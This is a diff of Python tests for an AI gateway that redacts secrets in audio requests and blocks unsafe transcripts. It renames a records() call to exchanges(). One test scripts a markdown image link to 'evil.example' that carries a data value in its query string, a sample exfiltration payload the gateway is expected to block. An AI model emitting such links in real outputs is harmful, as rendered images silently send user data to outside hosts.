@@ -35,7 +35,7 @@ def test_what_is_spoken_was_inspected(gateway: Gateway) -> None:
     assert answer.content == SOUND and answer.response.headers["content-type"] == "audio/wav"
     assert answer.response.headers["x-seawall-actions"] == "CTL-SECRETS=redact"
     assert SECRET not in json.dumps(gateway.provider.seen)
-    record = gateway.records()[-1]
+    record = gateway.exchanges()[-1]
     assert (record["surface"], record["result"]) == ("audio", "answered") and record["cost"] > 0
     gateway.provider.seen.clear()
     for fields in ({"input": BAD}, {"instructions": BAD}):
@@ -60,11 +60,11 @@ def test_a_transcript_is_inspected_before_it_is_released(gateway: Gateway) -> No
     sent = gateway.provider.seen[0]
     assert sent["file"] == ["audio.mp3"] and gateway.provider.uploads == [SOUND]
     assert sent["response_format"] == ["json"] and SECRET not in json.dumps(sent)
-    assert gateway.records()[-1]["cost"] == pytest.approx(9e-6 + 8e-6)
+    assert gateway.exchanges()[-1]["cost"] == pytest.approx(9e-6 + 8e-6)
     gateway.provider.script = {"text": "![x](https://evil.example/?q=anna)"}
     with pytest.raises(openai.BadRequestError) as caught:
         transcribe(gateway)
-    assert caught.value.code == "content_filter" and gateway.records()[-1]["result"] == "blocked"
+    assert caught.value.code == "content_filter" and gateway.exchanges()[-1]["result"] == "blocked"
 
 
 def test_pieces_repeat_nothing_that_was_taken_out(gateway: Gateway) -> None:
